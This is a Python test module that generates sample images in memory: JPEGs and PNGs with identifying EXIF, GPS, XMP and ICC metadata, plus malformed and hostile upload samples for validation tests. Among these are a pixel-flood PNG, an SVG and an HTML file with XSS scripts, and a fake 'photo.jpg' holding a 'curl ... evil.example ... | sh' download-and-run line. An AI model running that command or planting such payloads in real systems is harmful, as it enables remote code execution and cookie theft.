"""Test media generated in memory: nothing binary is committed.

Plain functions returning bytes, for any test module: ``from tests.samples import plain_jpeg``.
"""

from __future__ import annotations

import io
import struct
import zlib
from fractions import Fraction

from PIL import Image, ImageDraw, PngImagePlugin
from PIL.ExifTags import IFD

RED = (255, 0, 0)
BLUE = (0, 0, 255)
GREEN = (0, 200, 0)
GREY = (128, 128, 128)

# EXIF tag numbers used below.
TAG_MAKE = 0x010F
TAG_MODEL = 0x0110
TAG_ORIENTATION = 0x0112
TAG_DATETIME_ORIGINAL = 0x9003
GPS_LATITUDE_REF = 1
GPS_LATITUDE = 2
GPS_LONGITUDE_REF = 3
GPS_LONGITUDE = 4

SECRET_STRINGS = (
    b"SpyCam",
    b"Tracker 9000",
    b"secret-xmp-location",
    b"secret-comment",
    b"secret-png-text",
    b"Linear sRGB",
)

XMP_PACKET = (
    b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description rdf:about="" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/">'
    b"<photoshop:City>secret-xmp-location</photoshop:City>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


# --- building blocks ---------------------------------------------------------------------------


def _save(im: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **params)
    return buf.getvalue()


def halves(width: int, height: int, left=RED, right=BLUE) -> Image.Image:
    """An asymmetric RGB image: left half one colour, right half another."""
    im = Image.new("RGB", (width, height), left)
    ImageDraw.Draw(im).rectangle((width // 2, 0, width - 1, height - 1), fill=right)
    return im


def _dms(value: float) -> tuple[Fraction, Fraction, Fraction]:
    degrees = int(value)
    minutes_float = (value - degrees) * 60
    minutes = int(minutes_float)
    seconds = Fraction(round((minutes_float - minutes) * 60 * 100), 100)
    return Fraction(degrees), Fraction(minutes), seconds


def tracking_exif(orientation: int | None = 6) -> Image.Exif:
    """EXIF naming a camera, with GPS coordinates and (optionally) an Orientation tag."""
    exif = Image.Exif()
    exif[TAG_MAKE] = "SpyCam"
    exif[TAG_MODEL] = "Tracker 9000"
    if orientation is not None:
        exif[TAG_ORIENTATION] = orientation
    exif.get_ifd(IFD.Exif)[TAG_DATETIME_ORIGINAL] = "2024:01:02 03:04:05"
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS_LATITUDE_REF] = "N"
    gps[GPS_LATITUDE] = _dms(51.500729)
    gps[GPS_LONGITUDE_REF] = "W"
    gps[GPS_LONGITUDE] = _dms(0.124625)
    return exif


def _s15f16(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _xyz_tag(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + b"\0" * 4 + _s15f16(x) + _s15f16(y) + _s15f16(z)


def _desc_tag(text: str) -> bytes:
    ascii_ = text.encode("ascii") + b"\0"
    # textDescriptionType: ASCII, then empty Unicode and ScriptCode parts.
    return (
        b"desc"
        + b"\0" * 4
        + struct.pack(">I", len(ascii_))
        + ascii_
        + struct.pack(">II", 0, 0)
        + struct.pack(">HB", 0, 0)
        + b"\0" * 67
    )


def _icc_profile(colour_space: bytes, description: str, curves_and_primaries) -> bytes:
    """Assemble a minimal ICC v2 display ("mntr") profile with an XYZ connection space."""
    d50 = (0.9642, 1.0, 0.8249)
    tags = [
        (b"desc", _desc_tag(description)),
        (b"cprt", b"text" + b"\0" * 4 + b"Public domain test profile\0"),
        (b"wtpt", _xyz_tag(*d50)),
        *curves_and_primaries,
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for sig, body in tags:
        body += b"\0" * (-len(body) % 4)
        table += sig + struct.pack(">II", offset + len(data), len(body))
        data += body
    header = (
        struct.pack(">I", offset + len(data))
        + b"lcms"  # preferred CMM
        + struct.pack(">I", 0x02100000)  # version 2.1
        + b"mntr"
        + colour_space
        + b"XYZ "
        + struct.pack(">6H", 2024, 1, 1, 0, 0, 0)
        + b"acsp"
        + b"APPL"  # primary platform
        + b"\0" * 4  # flags
        + b"\0" * 8  # device manufacturer and model
        + b"\0" * 8  # device attributes
        + struct.pack(">I", 0)  # rendering intent: perceptual
        + _xyz_tag(*d50)[8:]  # PCS illuminant
        + b"\0" * 4  # creator
        + b"\0" * 16  # profile ID
        + b"\0" * 28
    )
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data


_GAMMA_1 = b"curv" + b"\0" * 4 + struct.pack(">IH", 1, 0x0100) + b"\0\0"  # u8Fixed8 1.0


def linear_srgb_icc(description: str = "Linear sRGB (scrapbook test)") -> bytes:
    """A real, non-sRGB RGB display profile: sRGB primaries with a linear (gamma 1.0) curve.

    Hand-built ICC v2 matrix/TRC profile (Pillow can only create sRGB, LAB and XYZ profiles).
    Because its tone curve differs from sRGB's, a correct conversion to sRGB visibly
    brightens mid-tones (linear 128 -> sRGB ~188) while leaving pure red, green and blue
    unchanged, so the orientation colours of ``jpeg_with_metadata()`` stay recognisable.
    """
    return _icc_profile(
        b"RGB ",
        description,
        [
            # sRGB primaries, Bradford-adapted to D50, as in the standard sRGB profile.
            (b"rXYZ", _xyz_tag(0.4361, 0.2225, 0.0139)),
            (b"gXYZ", _xyz_tag(0.3851, 0.7169, 0.0971)),
            (b"bXYZ", _xyz_tag(0.1431, 0.0606, 0.7141)),
            (b"rTRC", _GAMMA_1),
            (b"gTRC", _GAMMA_1),
            (b"bTRC", _GAMMA_1),
        ],
    )


def linear_gray_icc(description: str = "Linear Gray (scrapbook test)") -> bytes:
    """A greyscale display profile with a linear (gamma 1.0) tone curve."""
    return _icc_profile(b"GRAY", description, [(b"kTRC", _GAMMA_1)])


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


# --- samples -----------------------------------------------------------------------------------


def jpeg_with_metadata(width: int = 800, height: int = 600, orientation: int | None = 6) -> bytes:
    """A camera-style JPEG full of identifying metadata; left half red, right half blue.

    Carries EXIF (Make "SpyCam", Model "Tracker 9000", Orientation, a GPSInfo IFD with
    latitude/longitude), an XMP packet with "secret-xmp-location", the non-sRGB ICC profile
    from ``linear_srgb_icc()`` and a COM segment "secret-comment".
    """
    return _save(
        halves(width, height),
        "JPEG",
        quality=90,
        exif=tracking_exif(orientation),
        icc_profile=linear_srgb_icc(),
        xmp=XMP_PACKET,
        comment=b"secret-comment",
    )


def icc_jpeg(width: int = 64, height: int = 64, color=GREY) -> bytes:
    """A flat-colour JPEG tagged with the linear (non-sRGB) profile and nothing else."""
    return _save(
        Image.new("RGB", (width, height), color), "JPEG", quality=95, icc_profile=linear_srgb_icc()
    )


def png_with_text_chunks(width: int = 64, height: int = 48) -> bytes:
    """A PNG with tEXt, iTXt and zTXt chunks holding "secret-png-text", plus an eXIf chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret-png-text")  # tEXt
    info.add_itxt("Description", "secret-png-text (itxt)", lang="en", tkey="Description")  # iTXt
    info.add_text("Location", "secret-png-text (ztxt)", zip=True)  # zTXt
    return _save(halves(width, height), "PNG", pnginfo=info, exif=tracking_exif(None))


def plain_jpeg(width: int = 640, height: int = 480, color=(10, 120, 200)) -> bytes:
    """A flat-colour JPEG with no metadata."""
    return _save(Image.new("RGB", (width, height), color), "JPEG", quality=90)


def plain_png(width: int = 640, height: int = 480, color=(10, 120, 200)) -> bytes:
    """A flat-colour RGB PNG with no metadata."""
    return _save(Image.new("RGB", (width, height), color), "PNG")


def webp_image(width: int = 320, height: int = 240, color=GREEN) -> bytes:
    """A lossless flat-colour WebP."""
    return _save(Image.new("RGB", (width, height), color), "WEBP", lossless=True)


def animated_gif(width: int = 120, height: int = 90) -> bytes:
    """A 3-frame animated GIF: red, then green, then blue."""
    frames = [Image.new("RGB", (width, height), c) for c in (RED, GREEN, BLUE)]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def heic_image(width: int = 128, height: int = 96, color=(200, 40, 40)) -> bytes:
    """A flat-colour HEIC encoded with pillow_heif."""
    import pillow_heif

    heif = pillow_heif.from_pillow(Image.new("RGB", (width, height), color))
    buf = io.BytesIO()
    heif.save(buf, quality=90)
    return buf.getvalue()


def png_with_alpha(width: int = 64, height: int = 64) -> bytes:
    """An RGBA PNG: opaque red left half, fully transparent right half."""
    im = Image.new("RGBA", (width, height), (255, 0, 0, 255))
    ImageDraw.Draw(im).rectangle((width // 2, 0, width - 1, height - 1), fill=(0, 0, 255, 0))
    return _save(im, "PNG")


def noisy_jpeg(width: int = 400, height: int = 300) -> bytes:
    """A JPEG with detailed content, so most of the file is entropy-coded scan data."""
    im = Image.effect_noise((width, height), 64).convert("RGB")
    return _save(im, "JPEG", quality=90)


def truncated_jpeg() -> bytes:
    """A valid JPEG cut to half its length: the headers parse, the scan data ends early."""
    data = noisy_jpeg()
    return data[: len(data) // 2]


def pixel_flood_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A few hundred bytes whose IHDR declares ``width`` x ``height`` 1-bit greyscale pixels.

    Only the first rows are present in the IDAT, so anything that really decoded the file
    would fail as truncated; a correct guard refuses it from the header alone.
    """
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte + packed 1-bit pixels
    idat = zlib.compress(row * 16, 9)
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def svg_bytes() -> bytes:
    """An SVG with a script: the classic stored-XSS upload."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<script>alert(document.cookie)</script>"
        b'<rect width="100" height="100" fill="red"/></svg>\n'
    )


def html_bytes() -> bytes:
    """An HTML page with a script."""
    return (
        b"<!DOCTYPE html><html><head><title>x</title></head>"
        b"<body><script>alert(1)</script></body></html>\n"
    )


def text_disguised_as_jpeg() -> bytes:
    """A shell script as it would arrive named photo.jpg with Content-Type image/jpeg."""
    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n" + b"# padding\n" * 20


def pdf_disguised_as_jpeg() -> bytes:
    """The start of a PDF, as it would arrive named photo.jpg."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def jpeg_magic_then_garbage() -> bytes:
    """Starts with the JPEG SOI marker, then nothing that a JPEG decoder can use."""
    return b"\xff\xd8\xff\xe0" + b"not really a jpeg " * 20


def gray16_png(width: int = 32, height: int = 32, value: int = 40_000, icc: bool = True) -> bytes:
    """A 16-bit greyscale PNG (opens as mode I;16), optionally tagged with a grey ICC profile.

    With the linear grey profile, 40000/65535 -> 8-bit 156 -> sRGB about 205.
    """
    params = {"icc_profile": linear_gray_icc()} if icc else {}
    return _save(Image.new("I;16", (width, height), value), "PNG", **params)


def colour_key_png(width: int = 32, height: int = 32, icc: bool = True) -> bytes:
    """An RGB PNG whose right half is transparent through a tRNS colour key, plus an ICC profile."""
    im = halves(width, height, left=RED, right=(1, 2, 3))
    params = {"icc_profile": linear_srgb_icc()} if icc else {}
    return _save(im, "PNG", transparency=(1, 2, 3), **params)
